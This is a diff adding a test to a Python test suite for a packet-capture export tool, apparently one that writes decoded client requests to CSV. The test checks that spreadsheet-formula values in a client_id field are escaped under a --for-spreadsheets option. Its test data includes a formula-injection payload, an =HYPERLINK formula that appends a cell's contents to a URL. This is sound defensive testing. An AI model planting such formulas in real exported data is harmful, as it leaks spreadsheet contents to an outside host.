@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import sqlite3
 import subprocess
@@ -245,6 +246,25 @@ def test_it_says_what_is_in_the_tables() -> None:
     said = export("--columns").output
     for table in TABLES.values():
         assert table.describe() in said
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
+def test_text_is_no_formula_where_spreadsheets_are_to_read_it(name: str, tmp_path: Path) -> None:
+    """By default values stay what they are, for programs that read them; numbers do in any case."""
+    capture = tmp_path / "hostile.pcapng"
+    with capture.open("wb") as file:
+        writer = PcapngWriter(file)
+        for packet in Wire().open().say("client", make_request(3, 9, {"topics": []}, client_id=name)).close().packets:
+            writer.write(packet)
+        writer.flush()
+    for options, expected in (((), name), (("--for-spreadsheets",), f"'{name}")):
+        to = tmp_path / f"csv{len(options)}"
+        assert export(capture, "--to", "csv", "-o", to, "-q", *options).exit_code == 0
+        with (to / "exchanges.csv").open(newline="", encoding="utf-8") as file:
+            (row,) = csv.DictReader(file)
+        assert row["client_id"] == expected
+        assert row["client_host"][0].isdigit()
+    assert export(capture, "--to", "sqlite", "-o", tmp_path / "x", "--for-spreadsheets").exit_code == cli.USAGE
 
 
 def test_hostile_text_stays_a_value(tmp_path: Path) -> None:
